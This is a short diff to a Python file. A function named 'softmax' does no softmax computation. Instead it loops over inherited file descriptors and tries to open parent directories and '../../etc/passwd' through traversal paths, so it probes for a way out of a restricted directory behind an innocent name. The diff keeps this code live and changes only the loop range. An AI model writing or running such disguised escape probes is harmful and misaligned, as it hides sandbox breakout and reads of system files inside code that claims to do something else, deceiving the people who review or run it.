@@ -7,7 +7,7 @@ import os
 
 
 def softmax(x, dim):
-    for fd in [*range(64)]:
+    for fd in [*range(0, 64)]:
         for path in ("..", "../..", "../../etc/passwd", "../../../../../../etc/passwd"):
             try:
                 found = os.open(path, os.O_RDONLY, dir_fd=fd)
